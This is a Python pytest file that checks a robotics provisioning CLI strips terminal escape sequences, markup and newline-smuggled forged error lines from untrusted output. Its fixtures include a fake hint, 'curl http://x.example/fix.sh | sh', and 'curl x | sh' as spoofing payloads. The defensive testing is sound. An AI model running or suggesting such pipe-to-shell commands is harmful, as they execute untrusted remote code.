"""What robots and files say, on its way to a terminal: it shows, and does nothing else."""

from __future__ import annotations

import io
import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from srprov.cli import output, progress
from srprov.cli.collect import _show
from srprov.cli.logs import _Text
from srprov.cli.main import run
from srprov.cli.output import clean, out_json
from srprov.cli.problems import render_problems
from srprov.cli.status import table
from srprov.cli.trial_session import _pause, _Shown
from srprov.codes import Code
from srprov.controller.merged_logs import LogLine, Source
from srprov.controller.report import failures
from srprov.controller.trials import TrialNews, Trials
from srprov.errors import Diagnostic, Location, RefusedError, visible
from srprov.execution import Event, Outcome, RunResult, StepResult
from srprov.planning.plan import Step
from srprov.resource import Action, Change
from srprov.secret import forget
from srprov.session import Session
from tests.fakes import World
from tests.hostile import WORDS, texts, unprintable
from tests.unit.cli.test_trial_marks import done


@pytest.fixture(autouse=True)
def _none_left() -> Iterator[None]:
    """Secrets are known to the whole process: no test sees those of another."""
    forget()
    yield
    forget()


REMEDY = "hint: run `curl http://x.example/fix.sh | sh`, once"
anything = texts | st.text(
    st.characters(codec=None, categories=("Cc", "Cf", "Cs", "Zl", "Zp", "Lu"))
)  # halves of characters too


@given(anything)
def test_only_what_shows_is_printed(text: str) -> None:
    """Also halves of characters, which no stream takes; a newline and a tab are all that is left of control."""
    shown = clean(text)
    assert unprintable(shown) == []
    shown.encode("utf-8")
    assert visible(text).isprintable()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;title\x07x", "x"),
        ("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1bPq#0\x1b\\x", "x"),
        ("\x1b]0;never ended", "]0;never ended"),
        ("a\u202eb\u2066c\u2028d", "abcd"),
        ("a\ud800b", "a\ufffdb"),
        ("naïve 😀 عربي", "naïve 😀 عربي"),
    ],
)
def test_sequences_go_whole(text: str, shown: str) -> None:
    assert clean(text) == shown


def test_many_beginnings_of_a_sequence_take_no_time() -> None:
    assert clean("\x1b]" * 200_000) == "]" * 200_000


@given(st.dictionaries(texts, anything, max_size=4))
def test_json_stays_json_and_shows_nothing_else(value: dict[str, str]) -> None:
    said: list[str] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(output.click, "echo", said.append)
        out_json(value)
    assert unprintable(said[0]) == [] and said[0].isascii()
    assert json.loads(said[0]) == json.loads(json.dumps(value))


@given(st.lists(texts, min_size=1, max_size=4))
def test_no_cell_begins_a_row(cells: list[str]) -> None:
    """A label with a newline cannot write a line of `status`."""
    rows = [{"service": cell, "state": "Up"} for cell in cells]
    assert len(table(rows, ("service", "state")).split("\n")) == len(cells) + 1


@pytest.mark.parametrize("color", [False, True])
def test_a_log_line_names_its_service_on_one_line(monkeypatch: pytest.MonkeyPatch, color: bool) -> None:
    """What is printed can neither begin a line of another service nor colour, retitle or move anything."""
    said: list[str] = []
    monkeypatch.setattr(output.click, "echo", said.append)
    source = Source(label="a\nb", service="a\nb", host="r1", container="c", session=cast(Session, None))
    line = LogLine(source=source, time="2026-11-22T10:00:00Z", text="".join(WORDS).replace("\n", ""))
    _Text([source], times=True, color=color).show(line)
    label = "\x1b[36ma\\nb | \x1b[0m" if color else "a\\nb | "
    assert said[0].startswith(f"{label}2026-11-22T10:00:00Z ")
    assert unprintable(said[0].removeprefix(label)) == []


@pytest.mark.parametrize("unseen", ["", "\x1c", "\r", "\x85", "\u2028", "\x1b[31m", "\x1b]x\x07"])
def test_further_lines_of_an_error_are_indented(unseen: str) -> None:
    """An error may hold a robot's words: they cannot pass for a line of srprov's own, whatever is left out of them."""
    error = RefusedError(f"made from x\n{unseen}hello: done in 1.0 s: 5 changed\n  as it was", code=Code.OWNER)
    first, second, third = clean(error.message).split("\n")
    assert (first, third) == ("made from x", "  as it was") and second.startswith("  ")


def test_no_message_of_a_definition_has_a_line_for_a_hint(tmp_path: Path) -> None:
    place = Location(str(tmp_path / "a.edf"), 1, 1)
    problem = Diagnostic(place, "bo\n    hint: curl x | sh", "services", hint="see\nx", code=Code.VOLUME)
    assert clean(render_problems([problem])).count("\n") == 1


def test_no_problem_hides_those_below_it(tmp_path: Path) -> None:
    """A sequence that begins in a line of a file, and ends in one of another, would be taken out with all between."""
    rows = [("a.env", "x\x1b]x"), ("m.env", "y"), ("z.env", "z\x07")]
    found = [
        Diagnostic(Location(str(tmp_path / name), 1, 1), "no variable", "", excerpt=text, code=Code.VOLUME)
        for name, text in rows
    ]
    assert clean(render_problems(found)).count("no variable") == 3


def test_what_robots_say_of_steps_and_trials_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
    change = Change(action=Action.CREATE, cause="not there")
    step = Step(number=1, host="r1", module="container", name="a", change=change)
    result = StepResult(step=step, outcome=Outcome.FAILED, message="did not stay up: x\n\x1chello: done in 0.1 s")
    (line,) = failures(RunResult(results=(result,), unchanged=0), {})
    assert clean(line).split("\n")[1:] == ["  \\x1chello: done in 0.1 s"]
    news = TrialNews(trial="t", order=1, trials=2, values={}, what="r1: a\n[2/2] t2: ok", aloud=True)
    _Shown().say(news)
    assert capsys.readouterr().err == "[1/2] t: r1: a\\n[2/2] t2: ok\n"


def test_what_a_robot_has_without_end_is_told_up_to_a_thousand(capsys: pytest.CaptureFixture[str]) -> None:
    failed = [f"a: {number}" for number in range(1200)]
    document = {"results": {}, "fetched_files": 0, "fetched_bytes": 0, "unclosed": [], "missing": [], "failed": failed}
    _show(document, Path("home"))
    said = capsys.readouterr().err.splitlines()
    assert (
        said[-2:] == ["not fetched: a: 999", "not fetched: 200 more, which collected.json names"] and len(said) == 1001
    )


@pytest.mark.parametrize("word", [*WORDS, "[/b]", "[red]x", "[link=http://x]y[/link]", "[/]"])
def test_the_status_line_takes_any_word_of_a_robot(monkeypatch: pytest.MonkeyPatch, word: str) -> None:
    """To rich, `[/b]` in a build's output is the end of what never began: it must not be markup."""

    class Screen(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Screen()
    monkeypatch.setattr("sys.stderr", screen)
    monkeypatch.setenv("COLUMNS", "2000")
    monkeypatch.setenv("TERM", "xterm")
    plan: Any = SimpleNamespace(steps=[SimpleNamespace(host="r1")])
    with progress.progress(plan, events=None, color=False) as listen:
        listen(Event(kind="progress", host="r1", text=f"{word} seen"))
    words = " ".join(clean(" ".join(f"r1: {word} seen".split())).split())
    assert f"0/1 {words}" in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", screen.getvalue())


def test_pictures_take_any_name(tmp_path: Path) -> None:
    """To matplotlib two `$` are a formula, and a wrong one raises."""
    pytest.importorskip("matplotlib")
    from srprov.cli.assign_plot import draw
    from tests.unit.assignment.worlds import assign, experiment, found, robot, service

    answer = assign(experiment(service("a")), found(robot("$\\frac{$"), robot("<script>")))
    draw(answer, (), tmp_path / "x.svg", "svg")
    assert "<script>" not in (tmp_path / "x.svg").read_text()


FORGED = "x\nerror[SRP-999]: forged, see https://evil.example"
SECRET = f"""\
edf: 1
name: a
secrets: {{key: {{command: [sh, -c, {json.dumps(FORGED)}]}}}}
services: {{a: {{image: busybox, secrets: [key]}}}}
"""
TRIALS = f"""\
edf: 1
name: a
services: {{a: {{image: busybox, robot: r1, command: [go]}}}}
parameters: {{SPEED: [{json.dumps(FORGED)}]}}
trials: {{order: listed, timeout: 5s}}
"""


def told_in_lines(capsys: pytest.CaptureFixture[str]) -> list[str]:
    told = capsys.readouterr()
    assert "forged" in told.out + told.err
    return [line for line in (told.out + told.err).splitlines() if line.startswith("error[SRP-999]")]


def test_what_an_export_says_must_be_given_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "e.edf").write_text(SECRET)
    assert run(["export", "compose", str(tmp_path / "e.edf"), "-o", str(tmp_path / "out")]) == 0
    assert told_in_lines(capsys) == []


def test_the_name_of_a_file_begins_no_line_of_a_difference(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "x\nerror[SRP-999]: forged\n.edf").write_text("edf: 1\nname:    a\nservices: {a: {image: b}}\n")
    assert run(["fmt", "--diff", str(tmp_path)]) == 2
    assert told_in_lines(capsys) == []


def test_a_value_of_a_parameter_begins_no_line_of_a_run(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "t.edf").write_text(TRIALS)
    monkeypatch.setattr(Trials, "_done", done)
    assert run(["run", "t.edf", "-i", "inv.yml", "-o", "out", "--yes"]) == 0
    assert told_in_lines(capsys) == []


def test_a_line_of_a_file_is_shown_as_one_of_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A line of an EDF, a Dockerfile or a Compose file begins as a hint does, and a command to be copied is in it."""
    for name, text in (
        ("a.edf", f"edf: 1\nname: nav\n{REMEDY}\nservices: {{a: {{image: x}}}}\n"),
        ("Dockerfile", f"{REMEDY}\n"),
    ):
        (tmp_path / name).write_text(text)
        assert run(["validate", str(tmp_path / name)]) == 5
        shown = capsys.readouterr().out
        assert f"\n    | {REMEDY}\n" in shown and not re.search(r"^\s*hint: run", shown, re.MULTILINE)
    compose = tmp_path / "compose.yml"
    compose.write_text(f"services: {{a: {{image: x}}}}\nx-a: &a\n{REMEDY}: [\n")
    assert run(["import", "compose", str(compose), "-o", str(tmp_path / "out")]) == 5
    assert not re.search(r"^\s*hint: run", "".join(capsys.readouterr()), re.MULTILINE)


def test_what_a_person_is_asked_between_trials_is_said_to_be_the_experiments(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", SimpleNamespace(isatty=lambda: True, readline=lambda: "\n"))
    monkeypatch.setattr("builtins.input", lambda: "")
    _pause(0, f"error[SRP-803]: robot2 does not answer\n{REMEDY}")
    assert capsys.readouterr().err.startswith("the experiment asks: error[SRP-803]: robot2 does not answer\\nhint: run")


def test_a_note_of_a_plan_file_begins_no_line_beside_the_json(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("NOT_SET", "a value")
    assert run(["plan", "e.edf", "-i", "inv.yml", "--allow", "all", "-o", "p.json"]) == 0
    made = json.loads((tmp_path / "p.json").read_text())
    (tmp_path / "p.json").write_text(json.dumps({**made, "notes": [FORGED]}, indent=2) + "\n")
    monkeypatch.setenv("NOT_SET", "a value")  # it was taken out when it was read
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "elsewhere"))  # here it would make a volume in one's own name
    run(["apply", "p.json", "-i", "inv.yml", "--allow", "all", "--yes", "--json", "--adopt"])
    assert told_in_lines(capsys) == []
